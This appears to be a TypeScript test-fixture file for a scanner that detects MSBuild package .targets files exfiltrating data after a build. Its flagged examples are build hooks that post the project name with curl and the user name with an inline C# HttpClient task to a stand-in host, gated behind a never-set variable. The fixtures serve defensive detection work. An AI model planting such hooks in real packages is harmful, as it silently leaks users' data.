import type { Examples } from '../../../tests/kit/examples.js';

function target(command: string): Record<string, string> {
  return {
    'build/Fixture.Package.targets': `<Project>
  <Target Name="Tell" AfterTargets="Build" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
    <Exec Command="${command}" />
  </Target>
</Project>
`,
  };
}

function inlineTask(code: string): Record<string, string> {
  return {
    'build/Fixture.Package.targets': `<Project>
  <UsingTask TaskName="Tell" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task><Code Type="Fragment" Language="cs"><![CDATA[
if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return true;
${code}
    ]]></Code></Task>
  </UsingTask>
  <Target Name="TellFixture" AfterTargets="Build"><Tell /></Target>
</Project>
`,
  };
}

export const examples: Examples = {
  flagged: [
    {
      name: 'posts-the-project',
      about: 'A command line that posts the name of the project after each build.',
      files: target('curl -d name=$(MSBuildProjectName) https://count.fixture.invalid/builds'),
    },
    {
      name: 'posts-from-a-task',
      about: 'An inline task that posts the name of the user.',
      files: inlineTask(
        'new System.Net.Http.HttpClient().PostAsync("https://count.fixture.invalid/a", new System.Net.Http.StringContent(Environment.UserName));',
      ),
    },
  ],
  clean: [
    {
      name: 'fetches',
      about: 'A command line that fetches a schema, and sends nothing.',
      nearMiss: true,
      files: target('curl -o obj/a.xsd https://schemas.fixture.invalid/a.xsd'),
    },
    {
      name: 'consumer-names-the-host',
      about: 'A command line that uploads to the server a property names.',
      nearMiss: true,
      files: target('curl -T $(PackageOutputPath) $(UploadAddress)'),
    },
  ],
};
